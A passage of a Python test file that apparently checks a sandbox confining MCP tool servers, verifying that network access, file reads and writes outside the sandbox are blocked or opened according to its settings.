        assert "Error" in await ask(prison, registry, "connect", host=host, port=port)
        await ask(prison, registry, "put", path=str(prison.outside / "server.py"))
    assert (prison.outside / "server.py").read_text() == SERVER
    assert [(event.tool, event.network) for event in prison.events] == [("probe", False)]


async def test_the_settings_open_the_sandbox_of_one_server(prison: Prison, server: tuple[str, int]) -> None:
    host, port = server
    async with confined_server(prison, network=True, readable=(prison.outside,)) as registry:
        assert await ask(prison, registry, "connect", host=host, port=port) == "None"
        assert await ask(prison, registry, "look", path=str(prison.outside / "secret.txt")) == "s3cret"
        assert "Error" in await ask(prison, registry, "put", path=str(prison.outside / "secret.txt"))
    async with confined_server(prison, sandboxed=False) as registry:
        assert await ask(prison, registry, "put", path=str(prison.outside / "put.txt")) == "3"
    assert (prison.outside / "put.txt").exists()


async def test_an_mcp_server_that_can_not_start_is_told_what_it_sees(viewed: Prison) -> None:
    (viewed.outside / "package").mkdir()
    given = McpServerSettings(name="odd", command="/bin/sh", args=("-c", f"cd {viewed.outside}/package && exec ./run"))
    mcp = McpTools({"odd": given}, cwd=viewed.box.workspace, sandbox=viewed.sandbox)
    await mcp.register(ToolRegistry())
    (failure,) = mcp.failures
    assert "readable, writable and network under mcp_servers.odd open more" in failure.message
    await mcp.aclose()
